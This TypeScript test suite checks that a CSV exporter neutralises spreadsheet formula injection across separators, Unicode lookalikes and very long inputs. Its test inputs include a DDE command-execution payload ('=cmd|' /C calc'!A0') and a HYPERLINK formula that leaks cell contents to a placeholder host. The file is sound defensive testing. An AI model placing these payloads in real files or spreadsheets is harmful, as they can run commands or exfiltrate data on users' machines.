import fc from 'fast-check'
import { expect, test } from 'vitest'
import { csvText, type Cell } from '../../server/web/csv.ts'
import { anyText } from '../anyText.ts'
import { cellsAsSpreadsheet, readCsv, withoutNeutraliser } from '../csvReader.ts'
import { runs } from '../runs.ts'

const headings = ['Første', 'Andre', 'Tall']
const separators = [',', ';'] as const

/** Signs that quoting, spreadsheets or encodings are known to stumble over. */
const piece = fc.oneof(
  fc.constantFrom(
    ...Array.from(
      '=+-@＝＋－＠﹦﹢﹣﹫⁼⁺₌₊﬩⩵⩶"\'|%,;\t\r\n\0 \u00A0\u200B\u202E\uFEFF\uFFFD\u2028\u0085\x7F',
    ),
  ),
  fc.constantFrom('\r\n', '""', '","', '";"', "'=", '\uD800', '\uDC00', '🐤', '\u{E0020}', 'a', '1', 'æøå'),
  fc.constantFrom(
    '=HYPERLINK("http://x.example/?"&A1;"Les")',
    "=cmd|' /C calc'!A0",
    '@SUM(1+1)',
    '-2+3',
    '+47 ',
  ),
  anyText({ maxLength: 4 }),
)
const cell = fc.array(piece, { maxLength: 7 }).map((pieces) => pieces.join(''))
const number = fc.oneof(fc.integer(), fc.double({ noNaN: true, noDefaultInfinity: true }))
const table = fc.array(fc.tuple(cell, cell, number), { minLength: 1, maxLength: 6 })

/** What arrives when a text is sent: half a character has no bytes. */
const sent = (text: string) => Buffer.from(text).toString()

const numRuns = runs(4000, 800)

test('every cell comes back as it was, whatever is in it, when the neutraliser is taken away', () => {
  let tried = 0
  let neutralised = 0
  for (const separator of separators) {
    fc.assert(
      fc.property(table, (rows) => {
        const [first, ...rest] = read(rows, separator)
        expect(first).toEqual(headings)
        const cells = rest.flatMap((row) => row.slice(0, 2))
        expect(rest.map((row) => row.map(withoutNeutraliser).slice(0, 2))).toEqual(
          rows.map((row) => row.slice(0, 2).map((text) => sent(String(text)))),
        )
        expect(rest.map((row) => row[2])).toEqual(rows.map(([, , value]) => String(value)))
        tried += cells.length
        neutralised += cells.filter((text) => withoutNeutraliser(text) !== text).length
      }),
      { numRuns },
    )
  }
  expect(neutralised).toBeGreaterThan(tried / 10)
  console.log(`${tried} texts written and read back, ${neutralised} of them neutralised, 0 changed`)
})

test('no cell that a spreadsheet reads begins with a formula, whichever separator it believes in', () => {
  let tried = 0
  for (const separator of separators) {
    fc.assert(
      fc.property(table, (rows) => {
        const text = sent(csvText(headings, rows, separator)).slice(1)
        for (const believed of [',', ';', '\t', ',;\t']) {
          const cells = cellsAsSpreadsheet(text, believed)
          expect(cells.filter((read) => isRun(read) && !isNumber(read))).toEqual([])
          if (believed === separator) expect(cells.filter((read) => /^[\0\t\r\n]/.test(read))).toEqual([])
          tried += cells.length
        }
      }),
      { numRuns },
    )
  }
  console.log(`${tried} cells read by 4 kinds of spreadsheets, 0 begin with a formula`)
})

test('the search for formulas finds those that are let through', () => {
  const naive = (text: string) => `"${text.replaceAll('"', '""')}"`
  const hidden = ['=1', ' =1', '\t@x', '＝1', '\u200B+1', '"=1"'].map(
    (text) => cellsAsSpreadsheet(naive(text), ',')[0],
  )
  expect(hidden.filter((read) => read !== undefined && isRun(read))).toHaveLength(6)
  expect(cellsAsSpreadsheet('1,"a;=1+1;"', ';').filter(isRun)).toEqual(['=1+1'])
})

test('every sign that a program takes for a formula sign is known', () => {
  const alike = Array.from({ length: 0x110000 }, (_, code) => code)
    .filter((code) => code < 0xd800 || code > 0xdfff)
    .map((code) => String.fromCodePoint(code))
    .filter((sign) => /^[=+\-@]/.test(sign.normalize('NFKC')))
  expect(alike.length).toBeGreaterThan(12)
  expect(alike.filter((sign) => cellOf(`${sign}1`) !== `'${sign}1`)).toEqual([])
})

test.each([
  ['=HYPERLINK("http://x.example";"Les")', `'=HYPERLINK("http://x.example";"Les")`],
  [' =1+1', `' =1+1`],
  ['\t=1+1', `'\t'=1+1`],
  ['\rhei', `'\rhei`],
  ['Gratis;=1+1', `Gratis;'=1+1`],
  ['to\nlinjer\n@SUM(1)', `to\nlinjer\n'@SUM(1)`],
  ["'=1+1", `''=1+1`],
  ['-5', `'-5`],
  ['5 kjærlighetsspråk - hvilket snakket du?', '5 kjærlighetsspråk - hvilket snakket du?'],
  ['Å tvile på e-post, 1+1=2 og «a@b»', 'Å tvile på e-post, 1+1=2 og «a@b»'],
])('the text %j is written as %j', (text, written) => {
  expect(cellOf(text)).toBe(written)
})

test('a number stays a number, also below zero, and nothing is nothing', () => {
  const rows = [['a', -5, 1e21, null, -0.5, -Infinity, Number.NaN]]
  expect(csvText([], rows, ';')).toBe('\uFEFF\r\na;-5;1e+21;;-0.5;;\r\n')
})

/** Backtracking over so many signs is 10^11 steps or more: the test would not end within vitest's minute. */
test.each(['\t', "'", '"', ' ', ';', '=', ';=', '\n"'])(
  'a text of very many %j is written without backtracking, and comes back',
  (sign) => {
    const long = `${sign.repeat(300_000)}a`
    const isSame = cellOf(long)?.replaceAll("'", '') === long.replaceAll("'", '')
    expect(isSame).toBe(true)
  },
)

function read(rows: Cell[][], separator: ',' | ';'): string[][] {
  const text = sent(csvText(headings, rows, separator))
  expect(text.startsWith('\uFEFF')).toBe(true)
  return readCsv(text.slice(1), separator)
}

function cellOf(text: string): string | undefined {
  return readCsv(csvText(['a', 'b'], [[text, 1]], ',').slice(1))[1]?.[0]
}

/** A program may drop what is not seen, and read wide and raised signs as the plain ones. */
function isRun(read: string): boolean {
  const seen = read.replace(/^[\s\p{C}\uFFFD"]+/u, '')
  return /^[=+\-@]/.test(seen.normalize('NFKC'))
}

function isNumber(read: string): boolean {
  return /^-?\d+(\.\d+)?(e[+-]\d+)?$/.test(read)
}
